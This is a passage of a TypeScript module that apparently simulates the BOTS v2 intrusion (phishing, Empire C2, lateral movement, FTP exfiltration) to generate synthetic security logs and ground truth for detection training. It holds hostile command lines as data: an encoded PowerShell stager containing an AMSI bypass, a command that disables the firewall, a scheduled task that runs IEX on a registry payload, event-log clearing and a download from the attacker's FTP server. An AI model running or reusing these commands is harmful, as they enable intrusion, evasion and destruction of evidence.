/**
 * The adversary: the BOTS v2 attack of the write-ups (default variant), as scheduled steps that the
 * main loop runs in time order, plus the ground truth each step produces.
 */
import type { Ctx } from './ctx.js';
import { dnsLookup, ftpDenied, ftpSession, smbClose, smbOpen, smbReadFile, tcpSession, type FtpCmd, type SmbSession } from './activities.js';
import { pdt, US_PER_MIN, US_PER_S, US_PER_HOUR, isoMicro } from './time.js';
import type { Rng } from './prng.js';
import type { Host } from './network.js';
import { FIREWALL_NAT, GOOGLE_DNS, LEVEL3_DNS } from './network.js';
import { domainUser, rootProc, spawn, type Proc, type WinUser } from './winproc.js';
import { sec4648 } from './formats/windows.js';
import { nextRecord } from './ctx.js';
import { threatLine, panLocation } from './formats/pan.js';
import { counterFits, encodeTunnelLabel } from './tunnel.js';

export interface Step { t: number; run: () => void }

export interface StagedFile { name: string; size: number }

export interface Transmission {
  n: number; client: string; client_host: string; script: string | null; start: string; end: string; flow_id: string;
  files: string[]; file_count: number; distinct_files: number; repeated_files: string[];
  stor_events: number; succeeded: number; failed: string[]; bytes_transferred: number; stream_events: number;
}

/** The detail sections of truth.json that the attack produces (staging, ftp, dns_tunnel, c2, processes, ...). */
export type AttackTruth = Record<string, unknown>;

const PS_ENC = 'WwBSAGUAZgBdAC4AQQBTAHMARQBtAGIAbAB5AC4ARwBFAFQAVAB5AFAARQAoACcAUwB5AHMAdABlAG0ALgBNAGEAbgBhAGcAZQBtAGUAbgB0AC4AQQB1AHQAbwBtAGEAdABpAG8AbgAuAEEAbQBzAGkAVQB0AGkAbABzACcAKQB8AD8AewAkAF8AfQB8ACUAewAkAF8ALgBHAEUAdABGAEkARQBMAGQAKAAnAGEAbQBzAGkASQBuAGkAdABGAGEAaQBsAGUAZAAnACwAJwBOAG8AbgBQAHUAYgBsAGkAYwAsAFMAdABhAHQAaQBjACcAKQAuAFMAZQB0AFYAYQBsAHUAZQAoACQAbgB1AGwAbAAsACQAdAByAHUAZQApAH0AOwBbAFMAeQBzAHQAZQBtAC4ATgBlAHQALgBTAGUAcgB2AGkAYwBlAFAAbwBpAG4AdABNAGEAbgBhAGcAZQByAF0AOgA6AEUAeABwAGUAYwB0ADEAMAAwAEMAbwBuAHQAaQBuAHUAZQA9ADAAOwAkAFcAQwA9AE4ARQBXAC0ATwBCAEoARQBDAFQAIABTAFkAUwB0AGUATQAuAE4ARQBUAC4AVwBlAEIAQwBsAGkARQBOAHQAOwAkAHUAPQAnAE0AbwB6AGkAbABsAGEALwA1AC4AMAAgACgAVwBpAG4AZABvAHcAcwAgAE4AVAAgADYALgAxADsAIABXAE8AVwA2ADQAOwAgAFQAcgBpAGQAZQBuAHQALwA3AC4AMAA7ACAAcgB2ADoAMQAxAC4AMAApACAAbABpAGsAZQAgAEcAZQBjAGsAbwAnADsA';

const FTP_EXE = 'C:\\Windows\\System32\\ftp.exe';
const PS_EXE = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';

function staged(rng: Rng, ctx: Ctx): StagedFile[] {
  const v = ctx.v;
  const names: string[] = [];
  const seen = new Set<string>();
  const add = (n: string): void => { if (!seen.has(n)) { seen.add(n); names.push(n); } };
  if (v.name === 'default') { add('31564-pdf.pdf'); add('2322-pdf.pdf'); }
  for (const d of v.descriptiveFiles) add(d);
  const [lo, hi] = v.numberedPrefixDigits;
  while (names.length < v.stagingFileCount) {
    const digits = rng.int(lo, hi);
    const n = rng.int(10 ** (digits - 1), 10 ** digits - 1);
    add(v.name === 'default' ? `${n}-pdf.pdf` : rng.chance(0.6) ? `INV-${n}.pdf` : `PO-${n}.xlsx`);
  }
  // order: shuffled once, the two seed files kept near the middle of the first night
  const first = names.slice(0, 2);
  const rest = rng.shuffle(names.slice(2));
  if (v.name === 'default') { rest.splice(40, 0, first[0]!); rest.splice(95, 0, first[1]!); } else rest.unshift(...first);
  return rest.map((name) => {
    let size = Math.round(rng.lognormal(v.stagingMeanBytes * 0.82, 0.55));
    if (name === '31564-pdf.pdf') size = 614_317;
    if (name === '2322-pdf.pdf') size = 1_874_093;
    size = Math.max(48_000, Math.min(size, 9_500_000));
    return { name, size };
  });
}

/** Pure-FTPd replies */
function rate(bytes: number, secs: number): string {
  const r = bytes / secs / 1024;
  return r >= 1024 ? `${(r / 1024).toFixed(2)} Mbytes per second` : `${r.toFixed(2)} Kbytes per second`;
}
function portParam(ip: string, port: number): string { return `${ip.replace(/\./g, ',')},${port >> 8},${port & 255}`; }

export function buildAttack(ctx: Ctx, rng: Rng): { steps: Step[]; finish: () => AttackTruth } {
  const v = ctx.v;
  const net = ctx.net;
  const steps: Step[] = [];
  const at = (t: number, run: () => void): void => { steps.push({ t, run }); };
  const host = (n: string): Host => { const h = net.byName.get(n); if (!h) throw new Error('unknown host ' + n); return h; };
  const btun = host(v.stagingClient), klag = host(v.secondClient), venus = net.venus, mercury = net.mercury, tunnelHost = host(v.tunnelHost);
  const denied = v.deniedHosts.map(host);
  const D1 = v.dayCompromise, D2 = v.dayExfil;
  const uB = domainUser(btun, v.victimUser, '0x25276');
  const uK = domainUser(klag, v.secondUser, '0x3B1F2');
  const svc = (h: Host): WinUser => domainUser(h, v.serviceAccount, '0x' + (0x1a0000 + h.ip.length * 4099).toString(16).toUpperCase(), 0);
  const files = staged(rng.fork('files'), ctx);
  const domain = v.ftpDomain;

  const truth: Record<string, unknown> = {};
  const transmissions: Transmission[] = [];
  const ftpSessions: Record<string, unknown>[] = [];
  const processes: Record<string, unknown>[] = [];
  const deniedTruth: Record<string, unknown>[] = [];
  const threats: Record<string, unknown>[] = [];
  const lookups: { t: string; client: string; resolver: string }[] = [];
  const c2Sessions = new Map<string, number>();

  const procs = new Map<string, Proc>();
  const note = (p: Proc, h: Host, t: number, user: string, stage: string): void => { processes.push({ time: isoMicro(t), host: h.name, pid: p.pid, image: p.image, command_line: p.cmd, user, stage }); };

  // resolve the FTP server's name: client -> mercury -> 8.8.8.8 (cache for 5 min)
  let cacheUntil = 0;
  const resolve = (t: number, client: Host, resolver?: string): void => {
    const r = rng.fork('dns' + t);
    const res = resolver ?? mercury.ip;
    dnsLookup(ctx, r, { t, client: client.ip, resolver: res, qname: domain, answers: [v.ftpServer], ttl: 600 });
    lookups.push({ t: isoMicro(t), client: client.ip, resolver: res });
    if (res === mercury.ip && t > cacheUntil) {
      dnsLookup(ctx, r, { t: t + 300, client: mercury.ip, resolver: GOOGLE_DNS, qname: domain, answers: [v.ftpServer], ttl: 600 });
      lookups.push({ t: isoMicro(t + 300), client: mercury.ip, resolver: GOOGLE_DNS });
      cacheUntil = t + 5 * US_PER_MIN;
    }
  };

  const greeting = (t: number): string => {
    const d = new Date((t - 7 * US_PER_HOUR) / 1000);
    const hh = String(d.getUTCHours()).padStart(2, '0'), mm = String(d.getUTCMinutes()).padStart(2, '0');
    return `220---------- Welcome to Pure-FTPd [privsep] [TLS] ----------\r\n220-You are user number ${rng.int(1, 4)} of 50 allowed.\r\n220-Local time is now ${hh}:${mm}. Server port: 21.\r\n220-This is a private system - No anonymous login\r\n220 You will be disconnected after 15 minutes of inactivity.`;
  };

  // ---------------------------------------------------------------- day 1 (compromise): phish, Empire, firewall off
  const explorerB = rootProc(btun, 'C:\\Windows\\explorer.exe', 'C:\\Windows\\Explorer.EXE', 3140);
  at(pdt(D1, 20, 27, 31, 220_000), () => {
    const r = rng.fork('phish');
    const word = spawn(ctx, r, { t: pdt(D1, 20, 27, 31, 220_000), host: btun, user: uB, image: 'C:\\Program Files (x86)\\Microsoft Office\\root\\Office16\\WINWORD.EXE', cmd: `"C:\\Program Files (x86)\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "C:\\Users\\${v.victimUser}\\AppData\\Local\\Temp\\Temp1_invoice.zip\\invoice.doc" /o ""`, parent: explorerB, lifetimeUs: 3 * US_PER_HOUR });
    note(word, btun, pdt(D1, 20, 27, 31), uB.sysmonUser, 'user-execution');
    procs.set('word', word);
  });
  at(pdt(D1, 20, 28, 45), () => {
    // first C2 contact precedes the logged PowerShell start by a few seconds in the original; keep that order
    const r = rng.fork('c2first');
    dnsLookup(ctx, r, { t: pdt(D1, 20, 28, 44, 500_000), client: btun.ip, resolver: mercury.ip, qname: `${v.c2.split('.').reverse().join('.')}.in-addr.arpa`, qtype: 'PTR', answers: [], ttl: 0, rcode: 'NXDomain' });
  });
  at(pdt(D1, 20, 29, 8), () => {
    const r = rng.fork('ps-btun');
    const ps = spawn(ctx, r, { t: pdt(D1, 20, 29, 8, 311_000), pid: 3712, host: btun, user: uB, image: PS_EXE, cmd: `"${PS_EXE}" -NoP -NonI -W Hidden -enc ${PS_ENC}`, parent: procs.get('word')!, noTerminate: true, integrity: 'High', elevation: 2,
      net: [{ t: pdt(D1, 20, 29, 9, 100_000), proto: 'tcp', dst: v.c2, dport: 443, portName: 'https', sport: 49710 }] });
    procs.set('ps-btun', ps);
    note(ps, btun, pdt(D1, 20, 29, 8), uB.sysmonUser, 'execution (Empire stager)');
  });
  at(pdt(D1, 20, 33, 29), () => {
    const r = rng.fork('netsh');
    const p = spawn(ctx, r, { t: pdt(D1, 20, 33, 29), pid: 0x1168, host: btun, user: uB, image: 'C:\\Windows\\System32\\netsh.exe', cmd: '"C:\\Windows\\system32\\netsh.exe"  advfirewall set allprofiles state off', parent: procs.get('ps-btun')!, integrity: 'High', elevation: 2, lifetimeUs: 900_000 });
    note(p, btun, pdt(D1, 20, 33, 29), uB.sysmonUser, 'defense evasion');
  });

  // ---------------------------------------------------------------- FTP helpers
  const downloadSession = (label: string, h: Host, user: WinUser, t0: number, tProc: number, parent: () => Proc): void => {
    at(tProc, () => {
      const r = rng.fork('ftpdl-proc' + label);
      const p = spawn(ctx, r, { t: tProc, host: h, user, image: FTP_EXE, cmd: `"C:\\Windows\\system32\\ftp.exe"  -i -s:${v.downloadScript}`, parent: parent(), cwd: `C:\\Users\\${user.account}\\AppData\\Roaming\\`, lifetimeUs: 40 * US_PER_S,
        net: [{ t: t0 + 1_000, proto: 'tcp', dst: v.ftpServer, dport: 21, portName: 'ftp', sport: 50000 + rng.int(0, 9999) }] });
      note(p, h, tProc, user.sysmonUser, 'command and control: tool download');
    });
    at(t0, () => {
      const r = rng.fork('ftpdl' + label);
      resolve(t0 - 600_000, h);
      const cmds: FtpCmd[] = [];
      let t = t0 + 180_000;
      const step = (): number => (t += r.int(60_000, 400_000));
      cmds.push({ t: step(), method: 'USER', param: v.ftpAccount, code: 331, reply: `331 User ${v.ftpAccount} OK. Password required` });
      cmds.push({ t: step(), method: 'PASS', param: '********', code: 230, reply: '230 OK. Current restricted directory is /' });
      cmds.push({ t: step(), method: 'TYPE', param: 'I', code: 200, reply: '200 TYPE is now 8-bit binary' });
      let port = r.int(49800, 50200);
      cmds.push({ t: step(), method: 'PORT', param: portParam(h.ip, port), code: 200, reply: '200 PORT command successful', dataPort: port });
      cmds.push({ t: step(), method: 'NLST', param: '*', code: 226, reply: `150 Connecting to port ${port}\r\n226-Options: -a \r\n226 ${v.downloads.length} matches total`, dataPort: port, dataBytes: v.downloads.join('\r\n').length + 2, transferUs: 40_000 });
      let down = 0;
      const sizes: Record<string, number> = { 'psexec.exe': 381_816, 'nc.exe': 59_392, 'wget64.exe': 4_825_088, 'winsys64.dll': 812, 'python-2.7.6.amd64.msi': 16_429_056, 'dns.py': 3_416 };
      for (const f of v.downloads) {
        port++;
        const size = sizes[f] ?? r.int(2_000, 900_000);
        const secs = Math.max(0.001, size / (r.float(1.1, 6.5) * 1024 * 1024));
        cmds.push({ t: step(), method: 'PORT', param: portParam(h.ip, port), code: 200, reply: '200 PORT command successful', dataPort: port });
        cmds.push({ t: step(), method: 'RETR', param: f, code: 226, filename: f, loadway: 'Download', filesize: size, dataPort: port, dataBytes: size, transferUs: Math.round(secs * 1e6),
          reply: `150-Connecting to port ${port}\r\n150 ${(size / 1024).toFixed(1)} kbytes to download\r\n226-File successfully transferred\r\n226 ${secs.toFixed(3)} seconds (measured here), ${rate(size, secs)}` });
        t += Math.round(secs * 1e6);
        down += size;
      }
      cmds.push({ t: step(), method: 'QUIT', param: '', code: 221, reply: `221-Goodbye. You uploaded 0 and downloaded ${Math.round(down / 1024)} kbytes.\r\n221 Logout.` });
      const res = ftpSession(ctx, r, { client: h.ip, server: v.ftpServer, user: v.ftpAccount, start: t0, greeting: greeting(t0), cmds, panUser: `frothly\\${user.account}` });
      ftpSessions.push({ kind: 'download', client: h.ip, client_host: h.name, script: v.downloadScript, flow_id: res.flowId, start: isoMicro(t0), end: isoMicro(cmds[cmds.length - 1]!.t), files: [...v.downloads], stream_events: res.events, methods: countBy(res.streamEvents.map((e) => e.method)) });
    });
  };

  interface UploadSpec { n: number; label: string; h: Host; user: WinUser; t0: number; tProc: number | null; script: string | null; files: StagedFile[]; perFileUs: number; resetFile?: string; failAll?: boolean; interactive?: boolean }
  const uploadSession = (u: UploadSpec): void => {
    if (u.tProc !== null) at(u.tProc, () => {
      const r = rng.fork('ftpup-proc' + u.label);
      const cmd = u.interactive ? `"C:\\Windows\\system32\\ftp.exe"  ${domain}` : `"C:\\Windows\\system32\\ftp.exe"  -i -s:${u.script}`;
      const parent = u.h === klag ? procs.get('ps-' + klag.name)! : procs.get('ps-btun')!;
      const p = spawn(ctx, r, { t: u.tProc!, host: u.h, user: u.user, image: FTP_EXE, cmd, parent, cwd: `C:\\Users\\${u.user.account}\\AppData\\Roaming\\`, lifetimeUs: u.files.length * u.perFileUs + 60 * US_PER_S,
        net: [{ t: u.t0 + 1_000, proto: 'tcp', dst: v.ftpServer, dport: 21, portName: 'ftp', sport: 50000 + rng.int(0, 9999) }] });
      note(p, u.h, u.tProc!, u.user.sysmonUser, `exfiltration: transmission #${u.n}`);
    });
    at(u.t0, () => {
      const r = rng.fork('ftpup' + u.label);
      resolve(u.t0 - 700_000, u.h);
      const cmds: FtpCmd[] = [];
      let t = u.t0 + 150_000;
      const step = (a = 40_000, b = 250_000): number => (t += r.int(a, b));
      cmds.push({ t: step(), method: 'USER', param: v.ftpAccount, code: 331, reply: `331 User ${v.ftpAccount} OK. Password required` });
      cmds.push({ t: step(), method: 'PASS', param: '********', code: 230, reply: '230 OK. Current restricted directory is /' });
      cmds.push({ t: step(u.interactive ? 3_000_000 : 40_000, u.interactive ? 9_000_000 : 250_000), method: 'TYPE', param: 'I', code: 200, reply: '200 TYPE is now 8-bit binary' });
      let port = r.int(50300, 52000);
      let up = 0, ok = 0, bytesOk = 0;
      const failed: string[] = [];
      const sent: string[] = [];
      const budget = u.perFileUs;
      for (const f of u.files) {
        const fileStart = t;
        port++;
        cmds.push({ t: step(u.interactive ? 5_000_000 : 30_000, u.interactive ? 20_000_000 : 200_000), method: 'PORT', param: portParam(u.h.ip, port), code: 200, reply: '200 PORT command successful', dataPort: port });
        const secs = Math.max(0.05, Math.min(budget * 0.8 / 1e6, f.size / (r.float(2.5, 9.0) * 1024 * 1024)));
        sent.push(f.name);
        if (u.failAll) {
          cmds.push({ t: step(), method: 'STOR', param: f.name, code: 425, filename: f.name, loadway: 'Upload', dataPort: port, reply: `425 Could not open data connection to port ${port}: Connection timed out` });
          failed.push(f.name);
          t += 20 * US_PER_S;
        } else if (f.name === u.resetFile) {
          cmds.push({ t: step(), method: 'STOR', param: f.name, code: 451, filename: f.name, loadway: 'Upload', dataPort: port, dataBytes: f.size, dataReset: true, transferUs: Math.round(secs * 0.3e6), reply: `150 Connecting to port ${port}\r\n451 Error during write to file` });
          failed.push(f.name);
          const tt = t + 40_000;
          threats.push({ time: isoMicro(tt), file: f.name, action: 'reset-both', threat: 'Adobe Reader WKT String Buffer Overflow Vulnerability(34904)', severity: 'critical', src: FIREWALL_NAT, dest: v.ftpServer, transmission: u.n });
          ctx.out.emit('pan:threat', tt, threatLine({ t: tt, subtype: 'vulnerability', src: FIREWALL_NAT, dst: v.ftpServer, natsrc: u.h.ip, natdst: '0.0.0.0', rule: 'Inside to Outside', srcuser: `frothly\\${u.user.account}`, app: 'ftp', fromZone: 'Inside', toZone: 'Outside', inIf: 'ethernet1/2', outIf: 'ethernet1/1', sessionId: ++ctx.ids.panSession, sport: 20, dport: port, natsport: 20, natdport: port, flags: '0x400000', proto: 'tcp', action: 'reset-both', misc: f.name, threat: 'Adobe Reader WKT String Buffer Overflow Vulnerability(34904)', category: 'overflow', severity: 'critical', direction: 'client-to-server', seq: ++ctx.ids.panSeq, srcloc: panLocation(FIREWALL_NAT), dstloc: 'US', contentType: '', fileType: 'pdf', thrCategory: 'overflow', contentVer: 'AppThreat-722-4186' }));
          t += Math.round(secs * 0.3e6);
        } else {
          cmds.push({ t: step(), method: 'STOR', param: f.name, code: 226, filename: f.name, loadway: 'Upload', filesize: f.size, dataPort: port, dataBytes: f.size, transferUs: Math.round(secs * 1e6),
            reply: `150 Connecting to port ${port}\r\n226-File successfully transferred\r\n226 ${secs.toFixed(3)} seconds (measured here), ${rate(f.size, secs)}` });
          ok++; bytesOk += f.size; up += f.size;
          t += Math.round(secs * 1e6);
        }
        // the script's pace: one file every perFileUs on average (client-side disk and ftp.exe overhead)
        if (!u.interactive) t = Math.max(t, fileStart + Math.round(budget * r.float(0.75, 1.25)));
      }
      cmds.push({ t: step(), method: 'QUIT', param: '', code: 221, reply: `221-Goodbye. You uploaded ${Math.round(up / 1024)} and downloaded 0 kbytes.\r\n221 Logout.` });
      const res = ftpSession(ctx, r, { client: u.h.ip, server: v.ftpServer, user: v.ftpAccount, start: u.t0, greeting: greeting(u.t0), cmds, panUser: `frothly\\${u.user.account}` });
      const counts = new Map<string, number>();
      for (const s of sent) counts.set(s, (counts.get(s) ?? 0) + 1);
      transmissions.push({ n: u.n, client: u.h.ip, client_host: u.h.name, script: u.script, start: isoMicro(u.t0), end: isoMicro(cmds[cmds.length - 1]!.t), flow_id: res.flowId,
        files: sent, file_count: sent.length, distinct_files: counts.size, repeated_files: [], stor_events: sent.length, succeeded: ok, failed, bytes_transferred: bytesOk, stream_events: res.events });
      ftpSessions.push({ kind: 'upload', transmission: u.n, client: u.h.ip, client_host: u.h.name, script: u.script, flow_id: res.flowId, start: isoMicro(u.t0), end: isoMicro(cmds[cmds.length - 1]!.t), stream_events: res.events, methods: countBy(res.streamEvents.map((e) => e.method)) });
    });
  };

  // ---------------------------------------------------------------- day 1: tool download over FTP (two hosts), C2, lateral movement
  downloadSession('btun', btun, uB, pdt(D1, 20, 36, 14), pdt(D1, 20, 36, 12), () => procs.get('ps-btun')!);
  at(pdt(D1, 20, 45, 3), () => {
    const r = rng.fork('schtasks');
    const p = spawn(ctx, r, { t: pdt(D1, 20, 45, 3), host: btun, user: uB, image: 'C:\\Windows\\System32\\schtasks.exe', cmd: `"C:\\Windows\\system32\\schtasks.exe" /Create /F /SC DAILY /ST 10:26 /TN Updater /TR "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -NonI -W hidden -c \\"IEX ([Text.Encoding]::UNICODE.GetString([Convert]::FromBase64String((gp HKLM:\\Software\\Microsoft\\Network debug).debug)))\\""`, parent: procs.get('ps-btun')!, integrity: 'High', elevation: 2, lifetimeUs: 400_000 });
    note(p, btun, pdt(D1, 20, 45, 3), uB.sysmonUser, 'persistence (scheduled task)');
  });
  // lateral movement reaches the second workstation, the tunnel host (venus in the default story) and the DC
  const lateral = [...new Set([klag, tunnelHost, mercury])];
  at(pdt(D1, 20, 55, 13), () => {
    const r = rng.fork('lateral');
    lateral.forEach((target, i) => {
      const t = pdt(D1, 20, 55, 13, 200_000 + i * 310_000);
      ctx.out.emit('wineventlog', t, sec4648(t, btun.fqdn, nextRecord(ctx, btun.name, 'security', 50_000), { sid: uB.sid, account: uB.account, domain: uB.domain, logonId: uB.logonId }, { account: v.serviceAccount, domain: 'FROTHLY.LOCAL', target: target.fqdn, pid: 3712, image: PS_EXE }));
      processes.push({ time: isoMicro(t), host: btun.name, event: 4648, target: target.name, account: v.serviceAccount, stage: 'lateral movement' });
      const tt = t + 2 * US_PER_S + r.int(0, 900_000);
      const wmi = rootProc(target, 'C:\\Windows\\System32\\wbem\\WmiPrvSE.exe', 'C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding', 2660 + i * 8);
      const su = svc(target);
      const ps = spawn(ctx, r, { t: tt, host: target, user: su, image: PS_EXE, cmd: `powershell -noP -sta -w 1 -enc  ${PS_ENC}`, parent: wmi, noTerminate: true, integrity: 'High', elevation: 1,
        net: [{ t: tt + 1_500_000, proto: 'tcp', dst: v.c2, dport: 443, portName: 'https', sport: 49800 + i }] });
      procs.set('ps-' + target.name, ps);
      note(ps, target, tt, su.sysmonUser, 'lateral movement (WMI, Empire)');
    });
  });
  downloadSession('klag', klag, uK, pdt(D1, 20, 59, 56), pdt(D1, 20, 59, 54), () => procs.get('ps-' + klag.name)!);
  at(pdt(D1, 21, 4, 12), () => {
    // a third run of the download script on the first host: the session never opened (no traffic) [?]
    const r = rng.fork('ftp3');
    const p = spawn(ctx, r, { t: pdt(D1, 21, 4, 12), host: btun, user: uB, image: FTP_EXE, cmd: `"C:\\Windows\\system32\\ftp.exe"  -i -s:${v.downloadScript}`, parent: procs.get('ps-btun')!, lifetimeUs: 2 * US_PER_S });
    note(p, btun, pdt(D1, 21, 4, 12), uB.sysmonUser, 'tool download (no session)');
  });
  // servers try the same and are denied by the firewall's "block outbound FTP" rule
  denied.forEach((h, i) => {
    const t = i === 0 ? pdt(D1, 21, 6, 53) : pdt(D1, 21, 16, 6);
    at(t - 2 * US_PER_S, () => {
      const r = rng.fork('deny' + h.name);
      const su = svc(h);
      const parent = procs.get('ps-' + h.name) ?? rootProc(h, PS_EXE, 'powershell', 4000);
      if (h === mercury) {
        const p = spawn(ctx, r, { t: t - 2 * US_PER_S, host: h, user: su, image: FTP_EXE, cmd: `"C:\\Windows\\system32\\ftp.exe"  -i -s:${v.downloadScript}`, parent, lifetimeUs: 65 * US_PER_S });
        note(p, h, t - 2 * US_PER_S, su.sysmonUser, 'tool download (denied)');
      } else {
        // Empire's own WebClient to ftp:// (Sysmon network connection of powershell.exe)
        const p = spawn(ctx, r, { t: t - 2 * US_PER_S, host: h, user: su, image: PS_EXE, cmd: `powershell -noP -sta -w 1 -c "(New-Object Net.WebClient).DownloadFile('ftp://${v.ftpAccount.split('@')[0]}:********@${domain}/${v.downloads[5] ?? 'dns.py'}','C:\\temp\\${v.downloads[5] ?? 'dns.py'}')"`, parent, lifetimeUs: 70 * US_PER_S,
          net: [{ t, proto: 'tcp', dst: v.ftpServer, dport: 21, portName: 'ftp', sport: 50249 }] });
        note(p, h, t - 2 * US_PER_S, su.sysmonUser, 'tool download (denied)');
      }
      if (h === tunnelHost) resolve(t - 500_000, h, LEVEL3_DNS); else resolve(t - 500_000, h, GOOGLE_DNS);
      const times = ftpDenied(ctx, r, t, h.ip, v.ftpServer, `frothly\\${v.serviceAccount}`, 3);
      deniedTruth.push({ host: h.name, ip: h.ip, rule: 'block outbound FTP', attempts: times.map(isoMicro) });
    });
  });

  // ---------------------------------------------------------------- C2 beacons (Empire over HTTPS) from every compromised host
  const c2Hosts: [Host, number][] = [[btun, pdt(D1, 20, 29, 9)], [klag, pdt(D1, 20, 55, 16)], [tunnelHost, pdt(D1, 20, 55, 17)], [mercury, pdt(D1, 20, 55, 18)]];
  const c2End = pdt(v.tunnelEndDay, 4, 0, 0);
  for (const [h, start] of c2Hosts) {
    const r = rng.fork('c2' + h.name);
    let t = start;
    let n = 0;
    while (t < c2End) {
      const tt = t;
      const k = n++;
      at(tt, () => {
        const rr = rng.fork(`c2${h.name}${k}`);
        tcpSession(ctx, rr, { t: tt, dur: rr.int(150_000, 900_000), src: h.ip, dst: v.c2, dport: 443, bytesToServer: rr.int(600, 1400), bytesToClient: rr.int(300, 2400), app: 'ssl', tls: { sni: v.c2, issuer: v.c2Issuer, subject: v.c2Issuer, version: 'TLSv1.2' }, user: h.kind === 'workstation' ? `frothly\\${h === btun ? uB.account : uK.account}` : `frothly\\${v.serviceAccount}` });
        c2Sessions.set(h.name, (c2Sessions.get(h.name) ?? 0) + 1);
      });
      t += r.int(8 * US_PER_MIN, 14 * US_PER_MIN);
    }
  }

  // ---------------------------------------------------------------- SMB staging: one long session from the staging client to venus
  let stagingSession: SmbSession | null = null;
  const stagingOpen = pdt(v.stagingStartDay, 8, 3, 41, 118_000);
  at(stagingOpen, () => {
    stagingSession = smbOpen(ctx, rng.fork('staging-open'), { flowId: v.stagingFlowId, client: btun.ip, server: venus.ip, share: v.stagingShare, start: stagingOpen, user: v.victimUser });
    ctx.pinnedSmb.set(btun.name, stagingSession);
  });
  const split = Math.round(files.length * 0.42);
  const night1 = files.slice(0, split), night2 = files.slice(split);
  const readBatch = (label: string, list: StagedFile[], start: number, end: number): void => {
    // schedule in chunks so the main loop interleaves them with background hour by hour
    const per = (end - start) / list.length;
    const chunk = 25;
    for (let i = 0; i < list.length; i += chunk) {
      const part = list.slice(i, i + chunk);
      const t0 = Math.round(start + i * per);
      at(t0, () => {
        const r = rng.fork(`stage${label}${i}`);
        let t = t0;
        for (const f of part) {
          smbReadFile(ctx, r, stagingSession!, t, f.name, f.size, 1 << 20, 0);
          t += Math.round(per * r.float(0.6, 1.4));
        }
      });
    }
  };
  readBatch('n1', night1, pdt(D1, 21, 21, 4), pdt(D1, 22, 38, 0));
  // the second night re-reads a few first-night files (the actor lost track), then the rest
  const rereads = night1.filter((_, i) => i % 23 === 5);
  readBatch('n2', [...rereads, ...night2], pdt(D2, 19, 2, 17), pdt(D2, 22, 24, 0));
  at(pdt(D2, 22, 40, 55), () => {
    ctx.pinnedSmb.delete(btun.name);
    smbClose(ctx, rng.fork('staging-close'), stagingSession!, pdt(D2, 22, 40, 55));
  });

  // ---------------------------------------------------------------- day 2: exfiltration over FTP, four transmissions
  const kdbx: StagedFile = { name: v.credentialFile, size: 38_742 };
  uploadSession({ n: 1, label: 'tx1', h: klag, user: uK, t0: pdt(D2, 22, 28, 58), tProc: pdt(D2, 22, 28, 57), script: v.uploadScript, files: [kdbx], perFileUs: 3 * US_PER_S });
  at(pdt(D2, 22, 30, 11), () => {
    const r = rng.fork('wevtutil');
    for (const [i, log] of ['Microsoft-Windows-Sysmon/Operational', 'Windows PowerShell'].entries()) {
      const p = spawn(ctx, r, { t: pdt(D2, 22, 30, 11 + i * 2), host: klag, user: uK, image: 'C:\\Windows\\System32\\wevtutil.exe', cmd: `wevtutil  cl "${log}"`, parent: procs.get('ps-' + klag.name)!, integrity: 'High', elevation: 2, lifetimeUs: 300_000 });
      note(p, klag, pdt(D2, 22, 30, 11), uK.sysmonUser, 'indicator removal');
    }
  });
  const pdfs = files.filter((f) => f.name !== v.failedFile && f.name !== v.threatFile);
  const tx2 = pdfs.slice(0, v.tx2Count);
  const tx3new = pdfs.slice(v.tx2Count, v.tx2Count + v.tx3Count - v.tx3Repeats - 1);
  const tx3rep = tx2.filter((_, i) => i % Math.max(1, Math.floor(tx2.length / v.tx3Repeats)) === 0).slice(0, v.tx3Repeats);
  const threatFile = files.find((f) => f.name === v.threatFile) ?? { name: v.threatFile, size: 1_204_332 };
  const tx3 = [...tx3new];
  // repeats interleaved, the threat file about 45% through (23:24 of a 23:13-23:36 run)
  tx3rep.forEach((f, i) => tx3.splice(Math.min(tx3.length, Math.round((i + 1) * tx3.length / (tx3rep.length + 1))), 0, f));
  tx3.splice(Math.round(tx3.length * 0.47), 0, threatFile);
  uploadSession({ n: 2, label: 'tx2', h: btun, user: uB, t0: pdt(D2, 22, 42, 7), tProc: pdt(D2, 22, 42, 6), script: v.uploadScript, files: tx2, perFileUs: Math.floor(v.tx2Minutes * US_PER_MIN / tx2.length) });
  uploadSession({ n: 3, label: 'tx3', h: btun, user: uB, t0: pdt(D2, 23, 13, 35), tProc: pdt(D2, 23, 13, 34), script: v.uploadScript, files: tx3, perFileUs: Math.floor(v.tx3Minutes * US_PER_MIN / tx3.length), resetFile: threatFile.name });
  const failed = files.find((f) => f.name === v.failedFile) ?? { name: v.failedFile, size: 2_210_551 };
  uploadSession({ n: 4, label: 'tx4', h: btun, user: uB, t0: pdt(D2, 23, 43, 38), tProc: pdt(D2, 23, 43, 37), script: null, files: [failed], perFileUs: 60 * US_PER_S, failAll: true, interactive: true });
  at(pdt(D2, 23, 46, 8), () => {
    const r = rng.fork('single');
    const p = spawn(ctx, r, { t: pdt(D2, 23, 46, 8), host: btun, user: uB, image: FTP_EXE, cmd: `"C:\\Windows\\system32\\ftp.exe"  -i -s:${v.singleScript}`, parent: procs.get('ps-btun')!, lifetimeUs: 9 * US_PER_S });
    note(p, btun, pdt(D2, 23, 46, 8), uB.sysmonUser, 'exfiltration attempt (blocked, no session)');
    const tt = pdt(D2, 23, 46, 14);
    const port = r.int(52000, 53000);
    ctx.out.emit('pan:threat', tt, threatLine({ t: tt, subtype: 'file', src: FIREWALL_NAT, dst: v.ftpServer, natsrc: btun.ip, natdst: '0.0.0.0', rule: 'Inside to Outside', srcuser: `frothly\\${uB.account}`, app: 'ftp', fromZone: 'Inside', toZone: 'Outside', inIf: 'ethernet1/2', outIf: 'ethernet1/1', sessionId: ++ctx.ids.panSession, sport: 20, dport: port, natsport: 20, natdport: port, flags: '0x400000', proto: 'tcp', action: 'deny', misc: failed.name, threat: 'JPEG File Upload(52097)', category: 'file', severity: 'low', direction: 'client-to-server', seq: ++ctx.ids.panSeq, srcloc: panLocation(FIREWALL_NAT), dstloc: 'US', contentType: '', fileType: 'jpeg', thrCategory: 'unknown', contentVer: 'AppThreat-722-4186' }));
    threats.push({ time: isoMicro(tt), file: failed.name, action: 'deny', threat: 'JPEG File Upload(52097)', severity: 'low', src: FIREWALL_NAT, dest: v.ftpServer, transmission: 4 });
  });

  // ---------------------------------------------------------------- venus: python, then the DNS tunnel
